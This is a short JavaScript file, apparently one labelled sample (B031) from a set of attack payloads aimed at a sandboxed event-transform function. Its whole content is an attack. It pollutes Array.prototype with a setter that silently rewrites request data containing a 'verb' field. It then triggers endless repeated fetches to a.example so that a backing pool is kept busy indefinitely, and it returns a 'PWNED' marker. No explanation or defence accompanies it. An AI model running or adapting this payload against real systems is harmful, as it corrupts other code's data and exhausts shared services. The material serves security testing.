// id: B031
// goal: turn a question into no question on its way, again and again, so that the pool answers for ever
export async function transformEvent(event) {
  const again = () => { fetchV2("https://a.example/").catch(() => {}); };
  Object.defineProperty(Array.prototype, "0", {
    configurable: true,
    set(value) {
      if (value === " ") queueMicrotask(again);
      const made = typeof value === "string" && value.includes('"verb"') ? " " : value;
      Object.defineProperty(this, "0", { value: made, writable: true, configurable: true, enumerable: true });
    },
  });
  const found = await fetchV2("https://a.example/");
  return { found: "PWNED-B031" + found.status };
}
